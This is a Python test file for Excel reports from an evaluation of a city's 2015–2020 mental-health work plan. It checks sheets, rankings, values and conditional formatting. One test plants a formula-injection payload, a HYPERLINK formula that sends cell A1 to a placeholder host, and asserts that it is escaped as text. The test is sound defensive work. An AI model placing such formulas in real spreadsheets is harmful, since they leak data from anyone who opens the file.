"""The Excel workbook: a sheet per table, the same values, traffic-light conditional formatting."""

from __future__ import annotations

from openpyxl import load_workbook


def test_sheets_and_values(final_reports: tuple) -> None:
    figures, paths = final_reports
    book = load_workbook(paths["xlsx"])
    assert book.sheetnames == ["概况", "分领域", "部门排名", "指标", "逾期及风险", "任务明细", "与中期比较", "叙述来源",
                               "来源"]
    assert book["概况"]["A1"].value == "《示范市精神卫生工作规划（2015—2020年）》实施情况终期效果评估报告"
    overview = {row[0].value: row[1].value for row in book["概况"].iter_rows(min_row=2, max_row=8)}
    assert overview["评估时点"] == "2020-12-31" and overview["任务完成率"] == 0.8333
    source = {row[0].value: row[1].value for row in book["来源"].iter_rows(min_row=2)}
    assert source["评分规则SHA-256"] == figures.scoring.sha256 and source["数据截至"] == "2020-12-31"
    assert source["评分规则文件"].endswith("scoring.yaml") and source["duban版本"]
    overview_text = " ".join(str(c.value) for row in book["概况"].iter_rows() for c in row if c.value)
    assert figures.scoring.sha256 not in overview_text and "scoring.yaml" not in overview_text
    departments = [[c.value for c in row] for row in book["部门排名"].iter_rows(min_row=2)]
    assert [(r[0], r[1], r[-1]) for r in departments] == [
        (1, "市卫计委", 89.59), (2, "市财政局", 86.0), (3, "市公安局", 75.75), (4, "市民政局", 66.74)]
    indicators = [[c.value for c in row] for row in book["指标"].iter_rows(min_row=2)]
    assert indicators[0][8] == 0.975 and book["指标"]["I2"].number_format == "0.0%"
    tasks = [[c.value for c in row] for row in book["任务明细"].iter_rows(min_row=2)]
    assert [r[8] for r in tasks] == ["已完成", "未完成", "基本完成", "基本完成", "基本完成", "已完成"]


def test_traffic_light_conditional_formatting(final_reports: tuple) -> None:
    _, paths = final_reports
    book = load_workbook(paths["xlsx"])
    ranges = {str(cf.sqref): list(cf.rules) for cf in book["部门排名"].conditional_formatting}
    assert set(ranges) == {"F2:F5", "L2:L5"}
    operators = sorted(r.operator for r in ranges["L2:L5"])
    assert operators == ["between", "greaterThanOrEqual", "lessThan"]
    green = next(r for r in ranges["L2:L5"] if r.operator == "greaterThanOrEqual")
    assert green.formula == ["80"] and green.dxf.fill.fgColor.rgb.endswith("C8E6C9")
    verdict_rules = [r for cf in book["任务明细"].conditional_formatting for r in cf.rules]
    assert {r.formula[0] for r in verdict_rules} >= {'"已完成"', '"基本完成"', '"滞后"'}


def test_formula_looking_task_text_and_unit_names_are_written_as_text(session, tmp_path) -> None:
    from sqlmodel import select

    from models import Department, Task
    from tasks.evaluation.assessment import run_evaluation
    from tasks.evaluation.scoring import load_scoring
    from tests.evaluation_plan import build_small_plan

    build_small_plan(session)
    task_text, unit_name = '=HYPERLINK("http://example.invalid/?"&A1,"点击")', "=1+1市公安局"
    task = session.exec(select(Task).where(Task.code == "1")).one()
    unit = session.exec(select(Department).where(Department.name == "市公安局")).one()
    task.text, unit.name = task_text, unit_name
    session.add_all([task, unit])
    session.commit()
    _, paths = run_evaluation(session, "small", "final", None, load_scoring(), None, tmp_path / "out")
    book = load_workbook(next(p for p in paths if p.suffix == ".xlsx"))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert {c.value for c in cells if c.data_type == "s"} >= {task_text, unit_name}
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
